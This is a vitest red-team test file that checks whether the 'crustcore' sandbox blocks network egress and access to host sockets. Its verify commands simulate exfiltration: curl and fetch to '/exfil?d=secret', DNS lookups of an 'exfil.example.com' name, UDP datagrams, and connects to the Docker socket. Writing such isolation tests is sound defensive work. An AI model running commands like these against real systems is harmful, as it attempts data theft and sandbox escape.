/**
 * REDTEAM E24–E26: network and exfiltration (verify has no egress).
 *
 * Method: the test starts its own sinks on the host (a TCP listener on all interfaces, a UDP
 * listener, a Unix socket by path, an abstract Unix socket, and a Unix socket inside the user's
 * `node_modules`, which the sandbox binds read-only) and counts what reaches them. A real
 * `crustcore run` then runs a verify that tries `curl`, node's `fetch`, UDP, DNS lookups and
 * Unix-socket connects to them. No connection or datagram may arrive, the verify's own output
 * shows each attempt failing, and the run is logged intact.
 */
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  Exit,
  expectLogged,
  makeRepo,
  makeWorld,
  requireBwrap,
  run,
  token,
  useBuiltCli,
  useWorlds,
  writeFiles,
  type World,
} from './support.js';

useBuiltCli();
requireBwrap();
useWorlds();

const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

/** A listening server that counts connections. */
async function tcpSink(
  listen: (server: Server, ready: () => void) => void,
): Promise<{ hits: () => number; server: Server }> {
  let hits = 0;
  const server = createServer((socket) => {
    hits += 1;
    socket.destroy();
  });
  await new Promise<void>((ready) => listen(server, ready));
  closers.push(() => new Promise((done) => server.close(() => done())));
  return { hits: () => hits, server };
}

async function udpSink(): Promise<{ hits: () => number; port: number }> {
  let hits = 0;
  const socket: UdpSocket = createSocket('udp4');
  socket.on('message', () => {
    hits += 1;
  });
  await new Promise<void>((ready) => socket.bind(0, '0.0.0.0', ready));
  closers.push(() => new Promise((done) => socket.close(() => done())));
  return { hits: () => hits, port: socket.address().port };
}

function portOf(server: Server): number {
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the sink has no TCP port');
  return address.port;
}

/** The host's own non-loopback IPv4 addresses (reachable from the host's network namespace). */
function hostAddresses(): string[] {
  return Object.values(networkInterfaces())
    .flatMap((entries) => entries ?? [])
    .filter((entry) => entry.family === 'IPv4' && !entry.internal)
    .map((entry) => entry.address);
}

function changedRepo(world: World, extra: Record<string, string> = {}): string {
  const repo = makeRepo(world, { 'notes.txt': 'draft\n', ...extra });
  writeFiles(repo, { 'notes.txt': 'fixed\n' });
  return repo;
}

/** A node one-liner that prints `<label>=ok` or `<label>=<error code>`. */
function nodeTry(label: string, body: string): string {
  return `node -e "${body.replaceAll('"', '\\"')}.then(() => console.log('${label}=ok'), (e) => console.log('${label}=' + (e.code ?? e.cause?.code ?? e.message)))"`;
}

describe('E24 no TCP egress', () => {
  it('curl and fetch to the host (loopback and its own addresses) never connect', async () => {
    const world = makeWorld();
    const repo = changedRepo(world);
    const sink = await tcpSink((server, ready) => server.listen(0, '0.0.0.0', ready));
    const port = portOf(sink.server);
    const targets = ['127.0.0.1', ...hostAddresses()];
    const verify = [
      ...targets.map((host, i) => `curl -s -m 3 http://${host}:${port}/exfil?d=secret; echo "curl${i}=$?"`),
      ...targets.map((host, i) => nodeTry(`fetch${i}`, `fetch('http://${host}:${port}/exfil')`)),
      'true',
    ].join('; ');
    const { code, report } = await run(world, repo, ['--verify', verify, '--timeout', '30']);
    expect({ code, verdict: report.verdict }).toEqual({ code: Exit.verified, verdict: 'verified' });
    expect(sink.hits()).toBe(0);
    const output = report.attempts[0]?.verify?.outputTail ?? '';
    for (const [i] of targets.entries()) {
      expect(output).toMatch(new RegExp(`curl${i}=(?!0\\b)\\d+`, 'u'));
      expect(output).toMatch(new RegExp(`fetch${i}=(?!ok)\\S+`, 'u'));
    }
    await expectLogged(world, report, 'verified');
  });
});

describe('E25 no resolver and no UDP egress', () => {
  it('DNS lookups fail and a UDP datagram to the host never arrives', async () => {
    const world = makeWorld();
    const repo = changedRepo(world);
    const sink = await udpSink();
    const name = `data-${token()}.exfil.example.com`;
    const verify = [
      `getent hosts ${name}; echo "getent=$?"`,
      nodeTry('lookup', `require('dns').promises.lookup('${name}')`),
      nodeTry('resolve', `require('dns').promises.resolve4('${name}')`),
      nodeTry(
        'udp',
        `new Promise((ok, no) => { const s = require('dgram').createSocket('udp4'); s.send('exfil', ${sink.port}, '127.0.0.1', (e) => { s.close(); e ? no(e) : ok(); }); })`,
      ),
      'test -e /etc/resolv.conf; echo "resolvconf=$?"',
      'sleep 0.2',
      'true',
    ].join('; ');
    const { code, report } = await run(world, repo, ['--verify', verify, '--timeout', '30']);
    expect({ code, verdict: report.verdict }).toEqual({ code: Exit.verified, verdict: 'verified' });
    await new Promise((done) => setTimeout(done, 200));
    expect(sink.hits()).toBe(0);
    const output = report.attempts[0]?.verify?.outputTail ?? '';
    expect(output).toMatch(/getent=(?!0\b)\d+/u);
    expect(output).toMatch(/lookup=(?!ok)\S+/u);
    expect(output).toMatch(/resolve=(?!ok)\S+/u);
    expect(output).toContain('resolvconf=1');
    await expectLogged(world, report, 'verified');
  });
});

/** A node one-liner that connects to the Unix socket at `path` and prints `<label>=ok` or the error code. */
function connectTry(label: string, path: string): string {
  return nodeTry(
    label,
    `new Promise((ok, no) => { const c = require('net').connect(${JSON.stringify(path)}); c.on('connect', () => { c.destroy(); ok(); }); c.on('error', no); })`,
  );
}

describe('E26 host Unix sockets are unreachable', () => {
  it('a socket by path, an abstract socket and the docker socket are unreachable', async () => {
    const world = makeWorld();
    const repo = changedRepo(world);
    const abstract = `crustcore-redteam-${token()}`;
    const byPath = await tcpSink((server, ready) => server.listen(join(world.root, 'agent.sock'), ready));
    const inAbstract = await tcpSink((server, ready) => server.listen(`\0${abstract}`, ready));
    const verify = [
      connectTry('path', join(world.root, 'agent.sock')),
      connectTry('abstract', `\0${abstract}`),
      connectTry('docker', '/var/run/docker.sock'),
      `test -S ${join(world.root, 'agent.sock')}; echo "pathvisible=$?"`,
      'true',
    ].join('; ');
    const { code, report } = await run(world, repo, ['--verify', verify, '--timeout', '30']);
    expect({ code, verdict: report.verdict }).toEqual({ code: Exit.verified, verdict: 'verified' });
    expect({ byPath: byPath.hits(), abstract: inAbstract.hits() }).toEqual({ byPath: 0, abstract: 0 });
    const output = report.attempts[0]?.verify?.outputTail ?? '';
    for (const label of ['path', 'abstract', 'docker']) expect(output).toMatch(new RegExp(`${label}=(?!ok)\\S+`, 'u'));
    expect(output).toContain('pathvisible=1');
    await expectLogged(world, report, 'verified');
  });

  it("a host socket inside the user's node_modules (bound read-only into the sandbox) is unreachable", async () => {
    const world = makeWorld();
    const repo = changedRepo(world, { '.gitignore': 'node_modules/\n' });
    mkdirSync(join(repo, 'node_modules', '.cache'), { recursive: true });
    const inDeps = await tcpSink((server, ready) =>
      server.listen(join(repo, 'node_modules', '.cache', 'agent.sock'), ready),
    );
    const verify = [connectTry('deps', 'node_modules/.cache/agent.sock'), 'true'].join('; ');
    const { code, report } = await run(world, repo, ['--verify', verify, '--timeout', '30']);
    expect({ code, verdict: report.verdict }).toEqual({ code: Exit.verified, verdict: 'verified' });
    expect({ hits: inDeps.hits(), output: report.attempts[0]?.verify?.outputTail }).toEqual({
      hits: 0,
      output: expect.stringMatching(/deps=(?!ok)\S+/u),
    });
    await expectLogged(world, report, 'verified');
  });
});
